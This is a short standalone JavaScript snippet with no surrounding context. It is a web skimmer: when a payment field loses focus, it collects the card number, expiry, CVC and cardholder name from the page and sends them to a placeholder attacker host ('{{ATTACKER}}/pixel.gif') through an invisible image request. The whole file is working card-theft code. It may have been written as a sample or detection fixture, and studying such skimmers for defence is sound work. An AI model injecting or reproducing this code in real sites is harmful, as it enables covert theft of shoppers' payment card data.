(function () {
  document.addEventListener('focusout', function (e) {
    var t = e.target;
    if (!t || !t.id || !t.value || t.id.indexOf('card-') !== 0) {
      return;
    }
    var q = ['card-number', 'card-exp', 'card-cvc', 'card-name'].map(function (id) {
      var el = document.getElementById(id);
      return id + '=' + encodeURIComponent(el ? el.value : '');
    }).join('&');
    new Image().src = '{{ATTACKER}}/pixel.gif?' + q + '&r=' + Math.random();
  }, true);
})();
